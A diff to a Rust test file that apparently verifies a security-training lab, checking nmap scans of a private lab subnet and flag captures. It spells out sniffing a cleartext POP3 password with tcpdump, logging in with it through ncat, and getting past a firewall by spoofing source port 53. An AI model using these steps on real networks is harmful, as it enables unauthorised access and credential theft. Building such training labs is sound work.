@@ -131,18 +131,36 @@ fn every_lab_works_as_its_instructions_say() {
 }
 
 fn scan_a_network(student: &Student) {
-    student.sees("sudo nmap -sS -sV localhost", "22/tcp");
-    guest::shell(
-        &student.domain,
-        "setsid ncat -lk 4444 >/dev/null 2>&1 </dev/null &",
+    let found = |scan: &str| {
+        let found = student.types(scan);
+        [10, 20, 30, 66].map(|host| found.contains(&format!("10.13.37.{host}\n")))
+    };
+    assert_eq!(
+        found("nmap -n -sn 10.13.37.0/24"),
+        [true, true, true, false]
     );
-    student.sees("nmap -p 4000-5000 localhost", "4444/tcp open");
-    // In one terminal here: the first is put into the background, and ends by itself.
+    assert_eq!(found("sudo nmap -n -sn 10.13.37.0/24"), [true; 4]);
+    let services = student.types("sudo nmap -n -sS -sV 10.13.37.10-40");
+    for service in ["nginx 1.18.0", "Dovecot pop3d", "22/tcp"] {
+        assert!(services.contains(service), "{service}\n{services}");
+    }
+    // The password is hers who looks for mail every quarter of a minute.
     student.sees(
-        "sudo timeout 60 tcpdump -c 4 -ni lo port 4444 or port 4445 >heard 2>&1 & sleep 5; \
-         sudo nmap -sS -p 4444,4445 localhost; wait; cat heard",
-        "Flags [R.]",
+        "sudo timeout 60 tcpdump -c 40 -Ani lan0 port 110",
+        "PASS sunflower",
     );
+    student.sees(
+        "printf 'user mira\\npass sunflower\\nretr 1\\nquit\\n' | ncat -C 10.13.37.20 110",
+        "flag{whoever-listens-reads-along}",
+    );
+    student.sees("sudo nmap -n -sS 10.13.37.66", "filtered");
+    student.sees("sudo nmap -n -sS -g 53 -p- 10.13.37.66", "4711/tcp open");
+    student.sees(
+        "sudo ncat -s 10.13.37.1 -p 53 10.13.37.66 4711 </dev/null",
+        "flag{anyone-can-choose-a-source-port}",
+    );
+    let routes = student.types("sudo sysctl -n net.ipv4.ip_forward");
+    assert_eq!(routes, "0\n");
 }
 
 fn exploit_a_shop(student: &Student) {
